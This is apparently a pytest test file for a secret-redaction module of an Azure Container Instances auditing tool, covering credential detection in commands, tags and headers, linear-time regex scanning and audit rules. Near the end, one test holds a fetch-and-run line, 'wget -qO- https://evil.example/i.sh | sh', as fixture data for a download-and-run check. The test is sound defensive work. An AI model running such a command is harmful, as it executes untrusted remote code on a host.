"""Issue #13, secrets wherever they sit: redaction walks every string of every resource
and decides by content and by context; every regex over untrusted text runs in linear
time (a 400,000-character value, and hypothesis' long adversarial strings)."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aciaudit.redact import redact_in_place, redact_text
from aciaudit.secrets import find_secrets

PW = "Zq8-CANARY-pw-4417"


@pytest.mark.parametrize(
    "text",
    [
        f"curl -u admin:{PW} https://api.example.com",
        f"sh -c 'mysql -uroot -p{PW} -h db < dump.sql'",
        f"export PGPASSWORD={PW}; psql -h db",
        f"DB_PASSWORD={PW} ./run",
        f"--password {PW}",
        f"--token={PW}",
        f"admin:{PW}@myregistry.azurecr.io/app:1.0",
        f"https://deploy:{PW}@git.example.com/repo.git",
        f'curl -H "X-Api-Key: {PW}" http://localhost/health',
        f"curl -H 'Ocp-Apim-Subscription-Key: {PW}' http://x",
        f"Authorization: Bearer {PW}",
        f"sftp:{PW}:1001",
        f"alice:{PW}:1001:100:upload bob:{PW}:1002",
    ],
)
def test_secrets_found_by_context(text: str) -> None:
    assert PW not in redact_text(text), text


@pytest.mark.parametrize(
    "text",
    [
        "nginx:1.25",
        "myregistry.azurecr.io/app@sha256:0123abcd",
        "root:x:0:0:root:/root:/bin/bash",
        "user@example.com",
        "-p 8080:80",
        "https://example.com/a:b:1",
    ],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert redact_text(text) == text


def _group() -> dict:
    return {
        "id": "/subscriptions/s/resourceGroups/rg/providers/Microsoft.ContainerInstance/containerGroups/g",
        "type": "Microsoft.ContainerInstance/containerGroups",
        "tags": {"owner": "team", "deploy-token": PW, "note": f"login admin:{PW}@reg.io/x"},
        "properties": {
            "containers": [
                {
                    "name": "app",
                    "properties": {
                        "image": f"admin:{PW}@reg.example.io/app:1",
                        "livenessProbe": {
                            "exec": {"command": ["sh", "-c", f"curl -u admin:{PW} localhost"]},
                            "httpGet": {
                                "path": "/",
                                "httpHeaders": [{"name": "Authorization", "value": PW}],
                            },
                        },
                        "readinessProbe": {"exec": {"command": ["check", "--password", PW]}},
                    },
                }
            ],
            "extensions": [{"name": "x", "properties": {"settings": {"apiToken": PW}}}],
            "someFieldAzureAddsNextYear": {"deep": [f"export PGPASSWORD={PW}"]},
            "score": float("nan"),
        },
    }


def test_every_string_of_a_resource_is_walked() -> None:
    group = _group()
    redact_in_place(group)
    text = json.dumps(group, allow_nan=False)
    assert PW not in text
    assert group["tags"]["owner"] == "team"
    assert group["properties"]["score"] == "nan"


ADVERSARIAL_UNITS = [
    "a",
    "a:",
    "@",
    ":",
    "%",
    "a:b@",
    "'\"",
    "a=",
    "--password ",
    "a://",
    "/",
    "//a",
    "-u a:",
    "Authorization: ",
    "eyJ",
    "x:y:1 ",
    "user:pw@reg.io/",
    '"a": "',
    "\\",
    "=",
]
# Generous for a shared CI machine; measured figures are in the closing note.
BUDGET_400K = 3.0


@pytest.mark.parametrize("unit", ADVERSARIAL_UNITS)
def test_a_400k_value_is_scanned_in_linear_time(unit: str) -> None:
    # CPU time, not wall: other jobs on the machine do not count against the scan. A
    # quadratic pattern takes minutes here (105 s before issue 13); linear, under 0.5 s.
    value = (unit * (400_000 // len(unit) + 1))[:400_000]
    started = time.process_time()
    redact_text(value)
    assert time.process_time() - started < BUDGET_400K


_PIECES = st.sampled_from(
    ["@", ":", "%", "/", "'", '"', "=", " ", "-", "--", "a", "Z9", "://", "\\", "eyJ", "-p"]
)


def _scan_cpu(value: str) -> float:
    """The least CPU time of two scans of `value` (each a fresh string: not cached)."""
    times = []
    for suffix in "!?":
        started = time.process_time()
        find_secrets(value + suffix)
        times.append(time.process_time() - started)
    return min(times)


@settings(max_examples=30, deadline=None)
@given(st.lists(_PIECES, min_size=1, max_size=8), st.integers(4_000, 10_000))
def test_long_adversarial_strings_scan_in_linear_time(pieces: list[str], size: int) -> None:
    # Four times the text costs about four times as much; a quadratic pattern costs 16
    # times. A ratio, so a loaded machine does not fail it (a quadratic regex planted in the scan fails
    # it); the slack covers times too small to measure.
    unit = "".join(pieces)
    short = (unit * (size // len(unit) + 1))[:size]
    long = (unit * (4 * size // len(unit) + 1))[: 4 * size]
    assert _scan_cpu(long) < 10 * _scan_cpu(short) + 0.02


# -- ACI-006 reports a secret wherever it sits, with its fingerprint ---------------------


def _aci_006(group: dict) -> tuple[str, str]:
    from fixtures import run_one

    redact_in_place(group)
    result = run_one("ACI-006", group)
    shown = repr(result.evidence) + result.message
    return result.status.value, shown


def test_aci_006_fails_on_a_secret_in_a_probe_a_header_a_tag_or_an_image() -> None:
    status, shown = _aci_006(_group())
    assert status == "FAIL" and PW not in shown
    for place in ("livenessProbe", "httpHeaders", "tags.deploy-token", ".image", "settings"):
        assert place in shown, place
    assert "sha256:" in shown


def test_aci_006_fails_on_a_user_pass_uid_list() -> None:
    group = _group()
    group["tags"] = {}
    props = group["properties"]
    props.pop("extensions")
    props.pop("someFieldAzureAddsNextYear")
    container = props["containers"][0]["properties"]
    container.pop("livenessProbe")
    container.pop("readinessProbe")
    container["image"] = "atmoz/sftp:alpine"
    container["environmentVariables"] = [{"name": "SFTP_USERS", "value": f"foo:{PW}:1001"}]
    status, shown = _aci_006(group)
    assert status == "FAIL" and "user-password" in shown and PW not in shown


def test_aci_006_passes_a_clean_group() -> None:
    group = _group()
    group["tags"] = {"owner": "team"}
    props = group["properties"]
    props.pop("extensions")
    props.pop("someFieldAzureAddsNextYear")
    container = props["containers"][0]["properties"]
    container["image"] = "nginx:1.25"
    container.pop("livenessProbe")
    container.pop("readinessProbe")
    status, _ = _aci_006(group)
    assert status == "PASS"


# -- from review: what redacting a header must not hide or leave -------------------------


@pytest.mark.parametrize(
    "script",
    [
        "export H=Cookie:sid=$SID;wget -qO- https://evil.example/i.sh | sh",
        "echo Bearer abcdef123;wget -qO- https://evil.example/i.sh | sh",
    ],
)
def test_a_header_value_does_not_swallow_the_next_command(script: str) -> None:
    from fixtures import run_one

    group = {
        "id": "/subscriptions/s/resourceGroups/rg/providers/Microsoft.ContainerInstance/containerGroups/g",
        "type": "Microsoft.ContainerInstance/containerGroups",
        "properties": {
            "containers": [
                {"name": "app", "properties": {"image": "nginx:1", "command": ["sh", "-c", script]}}
            ]
        },
    }
    redact_in_place(group)
    command = group["properties"]["containers"][0]["properties"]["command"][2]
    assert "wget -qO- https://evil.example/i.sh | sh" in command
    # ACI-023 (download and run) still sees what it looks for: FAIL, as without the header.
    assert run_one("ACI-023", group).status.value == "FAIL"


def test_a_secret_header_name_at_the_end_of_a_longer_one_is_found() -> None:
    text = 'curl -H "X-Custom-Api-Key: s3cr3tValue9" -H "X-Private-Token: t0kenValue9" x'
    redacted = redact_text(text)
    assert "s3cr3tValue9" not in redacted and "t0kenValue9" not in redacted


@pytest.mark.parametrize(
    "text",
    [
        "echo zutDBlT3IrKFiHhc3K823ixBe21TTswCD==8dxe3Cu0noqjS5THy",
        "/subscriptions/0/resourceGroups/r/providers/P/sites/AKIAIOSFODNN7EXAMPLE/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        'curl -H "Cookie: a=b1; c=d2" x',
    ],
)
def test_redacting_twice_changes_nothing_and_leaves_no_tail(text: str) -> None:
    once = redact_text(text)
    assert redact_text(once) == once
    assert "8dxe3Cu0noqjS5THy" not in once and "bPxRfiCYEXAMPLEKEY" not in once
